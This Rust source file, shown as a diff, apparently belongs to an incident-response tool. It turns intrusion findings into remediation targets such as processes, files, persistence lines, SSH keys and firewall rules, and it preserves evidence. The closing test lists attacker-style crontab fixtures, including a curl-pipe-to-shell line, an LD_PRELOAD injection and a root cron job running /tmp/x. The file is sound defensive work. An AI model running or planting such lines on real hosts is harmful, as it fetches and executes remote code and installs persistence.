@@ -1,0 +1,591 @@
+//! From subjects to targets: each artifact subject becomes the narrowest target that undoes it (a line
+//! rather than a file, an entry rather than a key file) with the identity the snapshot recorded and the
+//! [`Basis`] it rests on; evidence subjects become copies; what the snapshot cannot pin down safely
+//! becomes a note for the responder.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::net::IpAddr;
+
+use minetrace_schemas::escape_bytes;
+use minetrace_schemas::findings::{Role, Subject};
+use minetrace_schemas::records::file::FileKind;
+use minetrace_schemas::records::package::PackageVerdict;
+use minetrace_schemas::RawBytes;
+
+use super::edit;
+use super::firewall;
+use super::plan::{FileTarget, LineKind, LineRemoval, LinkTarget, ProcessTarget};
+use super::roles::EvidenceClasses;
+use super::targets::{
+    add_why, file_target, in_system_dir, in_unit_dir, is_redis_dump, is_shared_file, link_target,
+    unit_name,
+};
+use crate::indicators::Indicators;
+use crate::model::HostModel;
+use crate::parse::authorized_keys::{self, AuthorizedKey};
+
+/// Whether `--apply` may act on a target unasked (attributed to the intrusion), or only when the operator
+/// names it, and why not.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Attr {
+    Attributed,
+    Review(String),
+}
+
+/// The findings a target rests on and whether one of them attributes it.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Basis {
+    pub why: Vec<String>,
+    pub attributed: bool,
+    /// Why it is not attributed (empty once it is).
+    pub review: Vec<String>,
+}
+
+impl Basis {
+    pub fn one(why: &str, attr: &Attr) -> Basis {
+        let mut b = Basis::default();
+        b.add(why, attr);
+        b
+    }
+
+    pub fn add(&mut self, why: &str, attr: &Attr) {
+        add_why(&mut self.why, why);
+        match attr {
+            Attr::Attributed => self.attributed = true,
+            Attr::Review(r) => add_why(&mut self.review, r),
+        }
+    }
+
+    pub fn merge(&mut self, other: &Basis) {
+        for w in &other.why {
+            add_why(&mut self.why, w);
+        }
+        for r in &other.review {
+            add_why(&mut self.review, r);
+        }
+        self.attributed |= other.attributed;
+    }
+
+    /// This basis, never attributed (a cap the planner puts on whatever the findings say).
+    pub fn capped(&self, reason: &str) -> Basis {
+        let mut b = self.clone();
+        b.attributed = false;
+        add_why(&mut b.review, reason);
+        b
+    }
+}
+
+/// What a whole file subject becomes.
+pub enum FileFate {
+    Unit(String),
+    Quarantine,
+    Reinstall(Option<String>),
+}
+
+/// Lines wanted in one file: by line number, the flagged key's fingerprint (for keys) and the basis.
+pub type WantedLines = BTreeMap<u32, (Option<String>, Basis)>;
+
+/// An iptables rule as `-C`/`-D` arguments, the address family it names, and the basis.
+pub type RuleEntry = (Vec<Vec<u8>>, Option<u8>, Basis);
+
+pub struct Collect {
+    classes: EvidenceClasses,
+    /// Evidence files to copy before anything is destroyed, by path: never modified or removed.
+    pub evidence: BTreeMap<Vec<u8>, (FileTarget, Basis)>,
+    pub procs: BTreeMap<(i32, u64), (ProcessTarget, Basis)>,
+    /// Whole files by path.
+    pub files: BTreeMap<Vec<u8>, (FileTarget, Basis, FileFate)>,
+    /// Symbolic links to remove, by path.
+    pub links: BTreeMap<Vec<u8>, (LinkTarget, Basis)>,
+    /// Shared files named whole by a finding, by path, with their label for the responder.
+    pub shared: BTreeMap<Vec<u8>, String>,
+    /// Lines to remove, by path then line number.
+    pub lines: BTreeMap<Vec<u8>, WantedLines>,
+    pub endpoints: BTreeMap<(IpAddr, u16), Basis>,
+    pub rules: BTreeMap<Vec<u8>, RuleEntry>,
+    pub accounts: BTreeMap<Vec<u8>, (Option<u32>, Basis)>,
+    pub manual: BTreeSet<String>,
+    pub rebuild_why: BTreeSet<String>,
+}
+
+impl Collect {
+    pub fn new(model: &HostModel, iocs: &Indicators) -> Collect {
+        Collect {
+            classes: EvidenceClasses::new(model, iocs),
+            evidence: BTreeMap::new(),
+            procs: BTreeMap::new(),
+            files: BTreeMap::new(),
+            links: BTreeMap::new(),
+            shared: BTreeMap::new(),
+            lines: BTreeMap::new(),
+            endpoints: BTreeMap::new(),
+            rules: BTreeMap::new(),
+            accounts: BTreeMap::new(),
+            manual: BTreeSet::new(),
+            rebuild_why: BTreeSet::new(),
+        }
+    }
+
+    pub fn manual(&mut self, what: String, reason: &str) {
+        self.manual.insert(format!("{what}: {reason}"));
+    }
+
+    /// A subject whose detector declared it evidence, or a file of an evidence class whatever it was
+    /// declared: its regular file is copied to the quarantine (when the plan destroys anything at all)
+    /// and never modified or removed.
+    fn evidence(&mut self, model: &HostModel, s: &Subject, b: &Basis) {
+        let path = match s {
+            Subject::File { path, .. }
+            | Subject::Persistence { path, .. }
+            | Subject::SshKey { path, .. } => path,
+            _ => return,
+        };
+        let Some(rec) = model.file_aliased(path.as_bytes()) else {
+            return;
+        };
+        if let Ok(t) = file_target(rec) {
+            let entry = self
+                .evidence
+                .entry(t.path.0.clone())
+                .or_insert_with(|| (t, Basis::default()));
+            entry.1.merge(b);
+        }
+    }
+
+    /// The evidence class of a subject's file, when it has one (looked up under the name the snapshot
+    /// recorded, merged-`/usr` aliases followed).
+    fn evidence_class_of(&self, model: &HostModel, s: &Subject) -> Option<String> {
+        let path = match s {
+            Subject::File { path, .. }
+            | Subject::Persistence { path, .. }
+            | Subject::SshKey { path, .. } => path,
+            _ => return None,
+        };
+        let rec = model.file_aliased(path.as_bytes());
+        let recorded = rec.map_or(path.as_bytes(), |r| r.path.as_bytes());
+        let sha = rec.and_then(|r| r.sha256.as_deref());
+        self.classes
+            .class_of(recorded, sha)
+            .or_else(|| self.classes.class_of(path.as_bytes(), sha))
+            .map(|c| c.describe())
+    }
+
+    /// A subject by its role: artifacts are acted on, evidence preserved, context left alone. A file of an
+    /// evidence class is evidence whatever its detector declared; a symbolic link the attacker put at such
+    /// a path (`~/.bash_history -> /dev/null`) holds no evidence: removing it restores the history, and
+    /// that is a review item (the operator may want the link as it is, for the record).
+    pub fn subject_with_role(&mut self, model: &HostModel, s: &Subject, role: Role, b: &Basis) {
+        let class = self.evidence_class_of(model, s);
+        match (role, class) {
+            (Role::Context, _) => {}
+            (Role::Evidence, _) => self.evidence(model, s, b),
+            (Role::Artifact, None) => self.subject(model, s, b),
+            (Role::Artifact, Some(class)) => {
+                if let Subject::File { path, .. } = s {
+                    if model
+                        .file_aliased(path.as_bytes())
+                        .is_some_and(|f| f.kind == FileKind::Symlink)
+                    {
+                        let b = b.capped(
+                            "restores a history or log the attacker linked away: name it to undo the link",
+                        );
+                        return self.whole_file(model, path, &b);
+                    }
+                }
+                self.evidence(model, s, b);
+                let what = match s {
+                    Subject::File { path, .. } => format!("file {}", path.escaped()),
+                    Subject::Persistence { path, line } | Subject::SshKey { path, line, .. } => {
+                        format!("line {line} of {}", path.escaped())
+                    }
+                    _ => return,
+                };
+                self.manual(
+                    what,
+                    &format!("{class} is evidence: preserved, never modified or removed"),
+                );
+            }
+        }
+    }
+
+    fn process(
+        &mut self,
+        model: &HostModel,
+        pid: i32,
+        start_ticks: u64,
+        exe: Option<&RawBytes>,
+        b: &Basis,
+    ) {
+        let label = format!("process {pid}");
+        if pid <= 1 || model.host.collector_pids.contains(&pid) {
+            return self.manual(label, "pid 1 and the collector are never signalled");
+        }
+        let rec = model.process(pid).filter(|p| p.start_ticks == start_ticks);
+        if let Some(p) = rec {
+            if p.exe.is_none() && p.ppid == 2 {
+                return self.manual(label, "a kernel thread; a rebuild is the remedy");
+            }
+        }
+        let exe_sha256 = rec
+            .and_then(|p| model.executable_of(p))
+            .and_then(|e| e.sha256.clone());
+        let target = ProcessTarget {
+            pid,
+            start_ticks,
+            exe_sha256,
+            exe_path: exe
+                .cloned()
+                .or_else(|| rec.and_then(|p| p.exe.as_ref().map(|e| e.path.clone()))),
+            comm: rec.map(|p| p.comm.clone()).unwrap_or_default(),
+        };
+        let entry = self
+            .procs
+            .entry((pid, start_ticks))
+            .or_insert_with(|| (target, Basis::default()));
+        entry.1.merge(b);
+    }
+
+    pub fn whole_file(&mut self, model: &HostModel, path: &RawBytes, b: &Basis) {
+        let label = format!("file {}", path.escaped());
+        let mut dump = false;
+        let target = match model.file_aliased(path.as_bytes()) {
+            Some(f) if f.kind == FileKind::Symlink => {
+                return match link_target(f) {
+                    Ok(t) => {
+                        let entry = self
+                            .links
+                            .entry(t.path.0.clone())
+                            .or_insert_with(|| (t, Basis::default()));
+                        entry.1.merge(b);
+                    }
+                    Err(reason) => self.manual(label, reason),
+                };
+            }
+            Some(f) => match file_target(f) {
+                Ok(t) => {
+                    dump = is_redis_dump(model, f);
+                    t
+                }
+                Err(reason) => return self.manual(label, reason),
+            },
+            None => {
+                let exe = model.executables.iter().find(|e| e.path == *path);
+                match exe {
+                    Some(e) if e.deleted || e.memfd => return self.manual(
+                        label,
+                        "deleted or memory-only: nothing on disk (its process image is preserved)",
+                    ),
+                    Some(e) => match &e.sha256 {
+                        Some(h) if path.as_bytes().starts_with(b"/") => FileTarget {
+                            path: path.clone(),
+                            dev: e.file.dev,
+                            ino: e.file.ino,
+                            sha256: h.clone(),
+                            size: e.size,
+                        },
+                        _ => return self.manual(label, "the snapshot has no hash for it"),
+                    },
+                    None => {
+                        return self.manual(
+                            label,
+                            "not in the snapshot's file records (no identity to check)",
+                        )
+                    }
+                }
+            }
+        };
+        // Decided on the name the snapshot recorded (merged-/usr aliases followed).
+        let recorded = target.path.clone();
+        let fate = if let Some(unit) = unit_name(recorded.as_bytes()) {
+            FileFate::Unit(unit)
+        } else if dump {
+            FileFate::Quarantine
+        } else if is_shared_file(recorded.as_bytes()) {
+            // Said only when no flagged line of it is removed either (see `build`).
+            self.shared.insert(recorded.0.clone(), label);
+            return;
+        } else {
+            let pkg = model.package_check(recorded.as_bytes());
+            match pkg.map(|p| (p.verdict, p.package.clone())) {
+                Some((PackageVerdict::Mismatch, name)) => FileFate::Reinstall(name),
+                Some((PackageVerdict::Match, _)) => {
+                    return self
+                        .manual(label, "identical to its package's copy; review the finding")
+                }
+                Some((PackageVerdict::NoDigest, name)) if in_system_dir(recorded.as_bytes()) => {
+                    FileFate::Reinstall(name)
+                }
+                Some((PackageVerdict::NotOwned, _)) => FileFate::Quarantine,
+                _ if in_system_dir(recorded.as_bytes()) => FileFate::Reinstall(None),
+                _ => FileFate::Quarantine,
+            }
+        };
+        let entry = self
+            .files
+            .entry(target.path.0.clone())
+            .or_insert_with(|| (target, Basis::default(), fate));
+        entry.1.merge(b);
+    }
+
+    fn line(&mut self, path: &RawBytes, number: u32, key: Option<String>, b: &Basis) {
+        let entry = self
+            .lines
+            .entry(path.0.clone())
+            .or_default()
+            .entry(number)
+            .or_insert_with(|| (key, Basis::default()));
+        entry.1.merge(b);
+    }
+
+    fn subject(&mut self, model: &HostModel, s: &Subject, b: &Basis) {
+        match s {
+            Subject::Process {
+                pid,
+                start_ticks,
+                exe,
+            } => self.process(model, *pid, *start_ticks, exe.as_ref(), b),
+            Subject::File { path, .. } => self.whole_file(model, path, b),
+            Subject::Persistence { path, line } => {
+                if *line == 0 || in_unit_dir(path.as_bytes()) {
+                    self.whole_file(model, path, b)
+                } else {
+                    self.line(path, *line, None, b)
+                }
+            }
+            Subject::SshKey {
+                fingerprint,
+                path,
+                line,
+            } => self.line(path, *line, Some(fingerprint.clone()), b),
+            Subject::Endpoint { addr } => match firewall::endpoint(addr) {
+                Some(ep) => self.endpoints.entry(ep).or_default().merge(b),
+                None => self.manual(
+                    format!("endpoint {}", escape_bytes(addr.as_bytes())),
+                    "not an address and port traffic can be blocked to",
+                ),
+            },
+            Subject::FirewallRule { rule } => match firewall::rule_args(rule.as_bytes()) {
+                Ok(args) => {
+                    let fam = firewall::family(&args);
+                    let entry = self
+                        .rules
+                        .entry(rule.0.clone())
+                        .or_insert_with(|| (args, fam, Basis::default()));
+                    entry.2.merge(b);
+                }
+                Err(reason) => self.manual(format!("firewall rule {}", rule.escaped()), reason),
+            },
+            Subject::Account { name, uid } => {
+                let n = name.as_bytes();
+                let sane = !n.is_empty()
+                    && n.len() <= 64
+                    && !n.starts_with(b"-")
+                    && n.iter().all(|b| b.is_ascii_graphic() && *b != b':');
+                if !sane {
+                    self.manual(
+                        format!("account {}", name.escaped()),
+                        "unusual name; lock it by hand",
+                    )
+                } else if n == b"root" {
+                    self.manual(
+                        "account root".into(),
+                        "never locked; set a new password instead",
+                    )
+                } else {
+                    let entry = self
+                        .accounts
+                        .entry(n.to_vec())
+                        .or_insert_with(|| (*uid, Basis::default()));
+                    entry.1.merge(b);
+                }
+            }
+            Subject::KernelModule { name } => {
+                self.rebuild_why
+                    .insert(format!("kernel module {}", escape_bytes(name.as_bytes())));
+            }
+        }
+    }
+}
+
+/// The lines of one file to remove, resolved against the snapshot's copy.
+pub struct LineEdit {
+    pub target: FileTarget,
+    pub removals: Vec<(LineRemoval, Basis)>,
+    /// Nothing that runs would be left with every wanted line removed: blank lines, comments (a
+    /// shebang among them) and plain `NAME=value` settings only.
+    pub leaves_inert: bool,
+    /// Authorized keys the file holds that no removal touches.
+    pub keys_left: usize,
+}
+
+/// A line that runs nothing: blank, a comment (or shebang), or a plain setting (`SHELL=/bin/sh`,
+/// `MAILTO = root`) whose value holds no expansion, substitution or command separator.
+fn inert_line(line: &[u8]) -> bool {
+    let t = line.trim_ascii();
+    if t.is_empty() || t.starts_with(b"#") {
+        return true;
+    }
+    let Some(eq) = t.iter().position(|b| *b == b'=') else {
+        return false;
+    };
+    let (name, rest) = t.split_at(eq);
+    let (name, value) = (name.trim_ascii(), rest.get(1..).unwrap_or_default());
+    let name_ok = name
+        .first()
+        .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
+        && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
+    // `NAME=value cmd` runs cmd: a value with a space in it is not a plain setting.
+    let value = value.trim_ascii();
+    name_ok
+        && !value
+            .iter()
+            .any(|b| b.is_ascii_whitespace() || b"$`;|&()<>\\".contains(b))
+}
+
+/// Lines of one file, resolved against the snapshot's copy, or why it cannot be done.
+pub fn line_edit(
+    model: &HostModel,
+    path: &[u8],
+    wanted: &WantedLines,
+) -> Result<LineEdit, &'static str> {
+    let rec = model
+        .file(path)
+        .ok_or("not in the snapshot's file records")?;
+    let target = file_target(rec)?;
+    let content = model
+        .content(rec)
+        .ok_or("its content is not in the bundle")?;
+    if rec.truncated || edit::sha256(content) != target.sha256 {
+        return Err("the bundle's copy is partial or does not match its hash");
+    }
+    let spans = edit::line_spans(content);
+    let key_at = |i: usize, s: &edit::LineSpan| -> Option<AuthorizedKey> {
+        let raw = content.get(s.start..s.end)?;
+        let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
+        authorized_keys::parse_line(u32::try_from(i + 1).ok()?, raw)
+    };
+    let mut removals: BTreeMap<usize, (LineRemoval, Basis)> = BTreeMap::new();
+    for (&number, (fingerprint, basis)) in wanted {
+        // A key is matched by its blob on every line, so duplicates go too; a plain line by its number.
+        let picked: Vec<(usize, edit::LineSpan, Option<AuthorizedKey>)> = match fingerprint {
+            Some(fp) => spans
+                .iter()
+                .enumerate()
+                .filter_map(|(i, s)| {
+                    let key = key_at(i, s)?;
+                    (key.fingerprint == *fp).then_some((i, *s, Some(key)))
+                })
+                .collect(),
+            None => {
+                let i = usize::try_from(number)
+                    .ok()
+                    .and_then(|n| n.checked_sub(1))
+                    .ok_or("line 0")?;
+                let s = spans.get(i).ok_or("line number past the end of the file")?;
+                vec![(i, *s, None)]
+            }
+        };
+        if picked.is_empty() {
+            return Err("no line holds the flagged key");
+        }
+        for (i, span, key) in picked {
+            let bytes = content
+                .get(span.start..span.end)
+                .ok_or("line out of range")?;
+            if bytes.contains(&0) {
+                return Err("the line holds a NUL byte");
+            }
+            if bytes.iter().all(|b| b.is_ascii_whitespace()) {
+                return Err("the flagged line is blank");
+            }
+            let kind = match key {
+                Some(k) => {
+                    if k.base64.is_empty()
+                        || !k
+                            .base64
+                            .iter()
+                            .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(b))
+                    {
+                        return Err("the key's base64 text is unusual");
+                    }
+                    LineKind::SshKey {
+                        key_type: k.key_type,
+                        blob: String::from_utf8_lossy(&k.base64).into_owned(),
+                        fingerprint: k.fingerprint,
+                    }
+                }
+                None => LineKind::Line,
+            };
+            let entry = removals.entry(i).or_insert_with(|| {
+                (
+                    LineRemoval {
+                        number: u32::try_from(i + 1).unwrap_or(u32::MAX),
+                        offset: span.start as u64,
+                        len: (span.next - span.start) as u64,
+                        bytes: RawBytes::from(bytes),
+                        kind,
+                        why: Vec::new(),
+                        gate: Default::default(),
+                    },
+                    Basis::default(),
+                )
+            });
+            entry.1.merge(basis);
+            for w in &basis.why {
+                add_why(&mut entry.0.why, w);
+            }
+        }
+    }
+    let ranges: Vec<(usize, usize)> = removals
+        .values()
+        .filter_map(|(r, _)| {
+            Some((
+                usize::try_from(r.offset).ok()?,
+                usize::try_from(r.len).ok()?,
+            ))
+        })
+        .collect();
+    let after = edit::without_ranges(content, &ranges).ok_or("overlapping lines")?;
+    let keys_left = spans
+        .iter()
+        .enumerate()
+        .filter(|(i, s)| !removals.contains_key(i) && key_at(*i, s).is_some())
+        .count();
+    Ok(LineEdit {
+        target,
+        removals: removals.into_values().collect(),
+        leaves_inert: after.split(|b| *b == b'\n').all(inert_line),
+        keys_left,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::inert_line;
+
+    #[test]
+    fn inert_lines_run_nothing() {
+        for l in [
+            &b""[..],
+            b"   ",
+            b"#!/bin/sh",
+            b"# m h dom mon dow command",
+            b"SHELL=/bin/sh",
+            b"PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin",
+            b"MAILTO = root@example.com",
+        ] {
+            assert!(inert_line(l), "{}", String::from_utf8_lossy(l));
+        }
+        for l in [
+            &b"/usr/bin/crondr -daily &"[..],
+            b"X=$(curl http://x/y|sh)",
+            b"X=`id`",
+            b"A=1; /tmp/x",
+            b"LD_PRELOAD=/tmp/x.so /bin/true",
+            b"* * * * * root /tmp/x",
+            b"1X=2",
+        ] {
+            assert!(!inert_line(l), "{}", String::from_utf8_lossy(l));
+        }
+    }
+}
